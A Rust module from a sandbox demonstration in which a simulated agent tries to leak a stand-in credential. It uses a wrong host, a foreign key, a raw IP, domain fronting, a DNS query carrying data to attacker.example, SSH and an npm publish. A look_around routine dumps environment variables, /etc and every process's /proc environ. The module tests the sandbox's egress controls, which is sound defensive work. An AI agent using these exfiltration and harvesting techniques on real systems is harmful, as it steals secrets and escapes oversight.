//! The agent of the demonstration. It runs in the sandbox and knows what any agent knows: its environment.

use super::{API, OTHER};
use crate::exit::{self, Failure};
use bytes::Bytes;
use http::Request;
use http_body_util::{BodyExt, Full};
use standin_model::{AddressBlocks, Authority, Host, Scheme};
use standin_net::{MayResolve, Need, Trust, Upstreams, Way};
use standin_policy::catalogue::Catalogue;
use std::io::{self, Read, Write};
use std::net::{TcpStream, ToSocketAddrs, UdpSocket};
use std::path::{Path, PathBuf};
use std::time::Duration;

/// The label of the honest use.
pub(super) const USE: &str = "use";
/// The label of the line that tells the stand-in.
pub(super) const STAND_IN: &str = "stand-in";
/// A host whose SSH the agent tries.
pub(super) const SSH_HOST: &str = "ssh.demo.example";
/// Records that the honest use and the attacks leave; a DNS query leaves none.
pub(super) const EXCHANGES: usize = 7;

/// What is tried, how it must end, and what it is.
pub(super) const ATTACKS: &[(&str, &str, &str)] = &[
    ("wrong-host", "403", "sends the stand-in to another host"),
    ("foreign-key", "403", "sends an attacker's key to the right host"),
    ("raw-ip", "403", "goes to an address instead of a name"),
    ("dns", "answered", "hides data in a DNS query to 8.8.8.8; the answer is made up inside"),
    ("ssh", "closed", "opens SSH on port 22"),
    ("fronting", "421", "connects to one allowed host and asks for another (domain fronting)"),
    ("publish", "403", "publishes a package that contains it"),
];

/// Most bytes of one file that are looked at.
const MAX_FILE: u64 = 1024 * 1024;

struct Anywhere(Authority, AddressBlocks);

impl MayResolve for Anywhere {
    fn authority(&self) -> &Authority {
        &self.0
    }

    fn addresses(&self) -> &AddressBlocks {
        &self.1
    }
}

/// The npm registry's name, from the catalogue.
pub(super) fn registry_host() -> String {
    let npm = Catalogue::builtin().service("npm").and_then(|npm| npm.allow.first()?.hosts.first());
    npm.map(ToString::to_string).unwrap_or_default()
}

/// Plays the agent.
pub(super) fn play() -> Result<i32, Failure> {
    let stand_in = std::env::var("DEMO_TOKEN").map_err(|_| Failure::new("the agent has no stand-in"))?;
    tell(STAND_IN, "", &stand_in)?;
    let runtime = tokio::runtime::Runtime::new().map_err(|e| Failure::because("cannot start the agent", &e))?;
    let mine = format!("Bearer {stand_in}");
    let theirs = "Bearer sk-attacker0000000000000000000";
    let registry = registry_host();
    let package = format!("{{\"name\":\"innocent\",\"readme\":\"{stand_in}\"}}");
    runtime.block_on(async {
        request(USE, API, API, "GET", "/v1/hello", Some(&mine), "").await?;
        request("wrong-host", OTHER, OTHER, "GET", "/", Some(&mine), "").await?;
        request("foreign-key", API, API, "POST", "/v1/files", Some(theirs), "data").await?;
        request("raw-ip", "93.184.215.14", "93.184.215.14", "GET", "/", None, "").await?;
        request("fronting", OTHER, API, "GET", "/", None, "").await?;
        request("publish", &registry, &registry, "PUT", "/innocent", None, &package).await
    })?;
    dns()?;
    ssh()?;
    look_around(Path::new("everything-readable")).map_err(|e| Failure::because("cannot look around", &e))?;
    Ok(exit::SUCCESS)
}

/// Connects to one host and sends a request that names one, which may be another.
async fn request(
    label: &str,
    dialled: &str,
    named: &str,
    method: &str,
    path: &str,
    key: Option<&str>,
    body: &str,
) -> Result<(), Failure> {
    let fault = |error: &(dyn std::error::Error + 'static)| Failure::because(format!("the agent's `{label}`"), error);
    let everywhere = ["0.0.0.0/0", "::/0"].iter().filter_map(|block| block.parse().ok()).collect();
    let host = Host::parse(dialled).map_err(|e| fault(&e))?;
    let permit = Anywhere(Authority::new(host, 443), AddressBlocks::new(everywhere));
    let upstreams = Upstreams::new(Trust::Host);
    let peer = upstreams.resolve(&permit).await.map_err(|e| fault(&e))?;
    let mut request = Request::builder().method(method).uri(format!("https://{named}{path}"));
    if let Some(key) = key {
        request = request.header("authorization", key);
    }
    let request = request.body(Full::from(Bytes::from(body.to_owned()))).map_err(|e| fault(&e))?;
    let way = Way { scheme: Scheme::Https, need: Need::Any, who: None };
    let sent = upstreams.send(&peer, way, request).await.map_err(|e| fault(&e))?;
    let status = sent.response.status().as_u16().to_string();
    let text = sent.response.into_body().collect().await.map_err(|e| fault(&e))?.to_bytes();
    let text = String::from_utf8_lossy(&text).trim().replace(['\n', '\t'], " ");
    let reason = serde_json::from_str::<serde_json::Value>(&text).ok();
    let reason = reason.as_ref().and_then(|v| v.pointer("/error/message")?.as_str()).unwrap_or(&text);
    tell(label, &status, reason)
}

/// Asks a resolver far away for a name that carries data.
fn dns() -> Result<(), Failure> {
    let ask = || -> io::Result<usize> {
        let socket = UdpSocket::bind("0.0.0.0:0")?;
        socket.set_read_timeout(Some(Duration::from_secs(5)))?;
        let mut query = vec![0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
        for label in ["6578666c", "attacker", "example"] {
            query.push(u8::try_from(label.len()).unwrap_or_default());
            query.extend_from_slice(label.as_bytes());
        }
        query.extend_from_slice(&[0, 0, 1, 0, 1]);
        socket.send_to(&query, "8.8.8.8:53")?;
        socket.recv(&mut [0; 512])
    };
    match ask() {
        Ok(length) => tell("dns", "answered", &format!("with {length} bytes")),
        Err(error) => tell("dns", "failed", &error.to_string()),
    }
}

fn ssh() -> Result<(), Failure> {
    let attempt = || -> io::Result<String> {
        let address = (SSH_HOST, 22).to_socket_addrs()?.next().ok_or(io::ErrorKind::NotFound)?;
        let mut socket = TcpStream::connect(address)?;
        socket.set_read_timeout(Some(Duration::from_secs(10)))?;
        socket.write_all(b"SSH-2.0-demo\r\n")?;
        // Words in a packet, whose length may be no text.
        let mut answer = Vec::new();
        socket.read_to_end(&mut answer)?;
        Ok(String::from_utf8_lossy(&answer).into_owned())
    };
    match attempt() {
        Ok(answer) if answer.contains("ssh.not_granted") => tell("ssh", "closed", "with the reason"),
        Ok(answer) => tell("ssh", "open", &format!("{} bytes came back", answer.len())),
        Err(error) if error.kind() == io::ErrorKind::ConnectionReset => tell("ssh", "closed", "reset"),
        Err(error) => tell("ssh", "failed", &error.to_string()),
    }
}

/// Writes down all that can be read: environment, files, what /proc tells of every process.
fn look_around(into: &Path) -> io::Result<()> {
    let mut out = io::BufWriter::new(std::fs::File::create(into)?);
    for (name, value) in std::env::vars() {
        writeln!(out, "{name}={value}")?;
    }
    let home = std::env::var_os("HOME").map(PathBuf::from);
    let mut open: Vec<PathBuf> =
        ["/etc", "/run", "/tmp", "/var", "/dev/shm"].iter().map(PathBuf::from).chain(home).collect();
    for process in std::fs::read_dir("/proc")?.flatten() {
        let names = ["environ", "cmdline", "status", "maps", "mounts", "net/tcp", "net/unix", "fdinfo"];
        open.extend(names.iter().map(|name| process.path().join(name)));
    }
    let tools = [".rustup", ".pyenv", ".nvm"];
    while let Some(path) = open.pop() {
        if path.is_symlink() || tools.iter().any(|tool| path.ends_with(tool)) || path.ends_with(into) {
            continue;
        }
        if let Ok(entries) = std::fs::read_dir(&path) {
            open.extend(entries.flatten().map(|entry| entry.path()));
        } else if let Ok(file) = std::fs::File::open(&path)
            && (path.starts_with("/proc") || file.metadata()?.is_file())
        {
            let mut contents = Vec::new();
            file.take(MAX_FILE).read_to_end(&mut contents).ok(); // what cannot be read holds nothing for us
            out.write_all(&contents)?;
        }
    }
    out.flush()
}

fn tell(label: &str, status: &str, text: &str) -> Result<(), Failure> {
    writeln!(io::stdout(), "{label}\t{status}\t{text}").map_err(Failure::output)
}
